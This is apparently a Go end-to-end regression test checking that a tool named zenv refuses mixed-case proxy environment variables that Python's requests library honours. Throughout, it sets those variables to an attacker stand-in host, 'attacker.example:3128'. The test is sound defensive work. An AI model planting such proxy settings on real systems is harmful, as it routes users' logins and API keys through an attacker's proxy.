//go:build e2e

package e2e

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
)

// TestProxyNamesPythonReadsAreRefused asks the ZenML client's own Python
// (requests.utils.get_environ_proxies, what the client's session uses)
// which proxy each variable name sets, in mixed case, and holds zenv env
// (bash, github) and zenv run to refusing every name Python reads (issue
// 16: Http_Proxy sent the client's login, key included, through the
// attacker's proxy).
func TestProxyNamesPythonReadsAreRefused(t *testing.T) {
	python := need(t, filepath.Join(cacheDir, "venv-zenml", "bin", "python"))
	ver := version(python, "-c", "import requests; print(requests.__version__)")
	names := []string{"Http_Proxy", "hTTPS_pROXY", "All_Proxy", "https_proxy", "HTTP_PROXY", "Wss_Proxy", "Ftp_Proxy", "No_Proxy"}
	env := []string{"PATH=/usr/bin:/bin"}
	for _, n := range names {
		env = append(env, n+"=http://attacker.example:3128")
	}
	out, err := peerTool(t, env, nil, python, "-c", `import json, requests.utils
print(json.dumps(requests.utils.get_environ_proxies("https://zenml.example.com")))`)
	if err != nil {
		t.Fatal(err)
	}
	var got map[string]string
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	for _, n := range names {
		scheme := strings.ToLower(strings.TrimSuffix(strings.ToLower(n), "_proxy"))
		if got[scheme] == "" {
			t.Errorf("python does not read %s (got %v): the test no longer shows why zenv refuses it", n, got)
			continue
		}
		for _, args := range [][]string{
			{"env", "bash", "--url", "https://zenml.example.com", "--api-key-env", "ZK", "--set", n + "=http://attacker.example:3128"},
			{"env", "github", "--url", "https://zenml.example.com", "--set", n + "=http://attacker.example:3128"},
			{"run", "--url", "https://zenml.example.com", "--api-key-env", "ZK", "--set", n + "=http://attacker.example:3128", "--", "true"},
		} {
			stdout, stderr, code := zenv(t, []string{"ZK=" + testKey}, args...)
			ok := code == 2 && stdout == "" && strings.Contains(stderr, "refuses the variable "+n)
			summary.record("requests proxy names", ver, ok)
			if !ok {
				t.Errorf("zenv %s: exit %d, stdout %q, stderr %q; want %s refused", strings.Join(args[:2], " "), code, stdout, stderr, n)
			}
		}
	}
}
